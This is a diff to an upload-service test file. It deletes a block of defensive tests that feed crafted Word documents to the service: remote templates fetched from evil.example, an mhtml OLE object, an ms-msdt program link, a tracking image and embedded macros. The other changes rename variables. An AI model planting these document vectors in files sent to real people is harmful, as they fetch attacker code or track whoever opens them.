@@ -11,7 +11,7 @@ import { LIMITS } from '@tervik/domain/limits.ts';
 import { seedOfTests } from '../../../../scripts/vitest/test-seed.ts';
 import { readFiles } from '#config/file-config.ts';
 import { createFileOffice, type FileOffice } from '#test/support/test-office.ts';
-import { makeDocx, makePdf } from '../corpus/documents.ts';
+import { makePdf } from '../corpus/documents.ts';
 import { createTestApp, type TestApp } from '../support/test-app.ts';
 import { toMultipart, upload, type Sent } from '../support/test-upload.ts';
 
@@ -120,108 +120,6 @@ describe('what the clinic was sent', () => {
   });
 });
 
-describe('a Word document', () => {
-  const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-  const relations = (inner: string) =>
-    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
-  const outside = (type: string, target: string, more = 'TargetMode="External"') =>
-    `<Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}" ${more}/>`;
-  const send = async (
-    parts: Record<string, string | Buffer>,
-    claimed?: number,
-  ): Promise<string | undefined> => {
-    const eContact = await office.open();
-    const { status, body } = await upload(
-      office.app,
-      office.mari,
-      eContact,
-      makeDocx(parts, undefined, claimed),
-      {
-        name: 'a.docx',
-      },
-    );
-    return status === 200 ? body.file?.contentType.split('.').at(-1) : body.key;
-  };
-  const linked = (inner: string) => send({ 'word/_rels/document.xml.rels': relations(inner) });
-
-  it('with links that wait for a click is taken', async () => {
-    expect(await linked(outside('hyperlink', 'https://example.ee/?a=1&amp;b=2'))).toBe('document');
-    expect(await linked(outside('hyperlink', 'mailto:mari@example.ee'))).toBe('document');
-    expect(await linked(`<Relationship Id="a" Type="${OFFICE}/styles" Target="styles.xml"/>`)).toBe(
-      'document',
-    );
-  });
-
-  it.each([
-    [
-      'a template',
-      () => ({
-        'word/_rels/settings.xml.rels': relations(outside('attachedTemplate', 'https://evil.example/a.dotm')),
-      }),
-    ],
-    [
-      'a template, said in other letters',
-      () => ({
-        'word/_rels/settings.xml.rels': relations(
-          outside('attachedTemplate', 'https://evil.example/a.dotm', 'TargetMode="&#69;xternal"'),
-        ),
-      }),
-    ],
-    [
-      'a template, in another encoding',
-      () => ({
-        'word/_rels/settings.xml.rels': Buffer.from(
-          `\uFEFF${relations(outside('attachedTemplate', 'https://evil.example/a.dotm'))}`,
-          'utf16le',
-        ),
-      }),
-    ],
-    [
-      'a template behind a bracket',
-      () => ({
-        'word/_rels/settings.xml.rels': relations(
-          `<Relationship Id=">" TargetMode='External' Type='${OFFICE}/attachedTemplate' Target='https://evil.example'/>`,
-        ),
-      }),
-    ],
-    [
-      'an object',
-      () => ({
-        'word/_rels/document.xml.rels': relations(
-          outside('oleObject', 'mhtml:https://evil.example!x-usc:https://evil.example'),
-        ),
-      }),
-    ],
-    [
-      'a picture that tells who opened it',
-      () => ({ 'word/_rels/document.xml.rels': relations(outside('image', 'https://evil.example/who.png')) }),
-    ],
-    [
-      'a link to a program',
-      () => ({ 'word/_rels/document.xml.rels': relations(outside('hyperlink', 'ms-msdt:/id x')) }),
-    ],
-    [
-      'a page of the web in it',
-      () => ({
-        'word/_rels/document.xml.rels': relations(
-          `<Relationship Id="a" Type="${OFFICE}/aFChunk" Target="a.mht"/>`,
-        ),
-      }),
-    ],
-    ['a packed object in it', () => ({ 'word/embeddings/oleObject1.bin': 'x' })],
-    ['macros behind another slash', () => ({ 'word\\vbaProject.bin': 'x' })],
-    ['a second list of its types', () => ({ '[content_types].xml': 'x' })],
-  ] as const)('that brings %s is refused', async (_, parts) => {
-    expect(await send(parts())).toBe('FILE_TYPE_NOT_ALLOWED');
-  });
-
-  it('that is larger inside than it says is refused', async () => {
-    expect(await send({ 'word/media/a.png': Buffer.alloc(30 * 1024 * 1024) }, 500)).toBe(
-      'FILE_TYPE_NOT_ALLOWED',
-    );
-  });
-});
-
 describe('a body that is no form of a browser’s', () => {
   const send = async (payload: Buffer, contentType: string): Promise<number> =>
     (
@@ -253,9 +151,9 @@ describe('a body that is no form of a browser’s', () => {
       });
       const broken = Buffer.from(body);
       for (let times = random(3); times >= 0; times -= 1) {
-        const place = random(random(2) === 0 ? head.length : body.length);
-        if (random(2) === 0) broken[place] = random(256);
-        else broken.copyWithin(place, place + 1 + random(40));
+        const target = random(random(2) === 0 ? head.length : body.length);
+        if (random(2) === 0) broken[target] = random(256);
+        else broken.copyWithin(target, target + 1 + random(40));
       }
       const cut = random(4) === 0 ? broken.subarray(0, random(broken.length)) : broken;
       const type = random(10) === 0 ? contentType.slice(0, random(contentType.length)) : contentType;
@@ -271,16 +169,16 @@ describe('a body that is no form of a browser’s', () => {
 
 describe('limits', () => {
   it('a gigabyte a day is one, also for uploads into several e-contacts that begin at once', async () => {
-    const places = await Promise.all(Array.from({ length: 6 }, () => office.open(office.jaan)));
+    const targets = await Promise.all(Array.from({ length: 6 }, () => office.open(office.jaan)));
     const small = pdf(1_000);
     const size = small.length;
-    const known = await office.keep(places[0] ?? '', { as: office.jaan });
+    const known = await office.keep(targets[0] ?? '', { as: office.jaan });
     await office.app.world.sql(`update file set bytes = $2 where id = $1`, [
       known,
       LIMITS.uploadBytesPerDay - size - 500,
     ]);
     const taken = await Promise.all(
-      places.map((place) => upload(office.app, office.jaan, place, small, { name: 'a.pdf' })),
+      targets.map((location) => upload(office.app, office.jaan, location, small, { name: 'a.pdf' })),
     );
     expect(taken.filter(({ status }) => status === 200)).toHaveLength(1);
     expect(taken.filter(({ body }) => body.key === 'FILE_DAY_LIMIT_REACHED')).toHaveLength(5);
